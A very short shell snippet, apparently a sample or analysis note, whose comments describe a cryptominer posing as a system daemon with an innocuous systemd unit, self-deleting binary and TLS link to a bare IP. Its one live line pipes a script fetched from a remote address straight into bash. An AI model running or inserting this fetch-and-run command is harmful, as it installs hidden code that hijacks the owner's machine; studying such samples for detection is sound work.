# A fetched script installs a miner under the name of a system daemon, with a systemd unit that has a harmless
# description. The running copy deletes its file. It connects to a bare address by TLS.
curl -fsS http://203.0.113.10/daemon.sh | bash
sleep 12
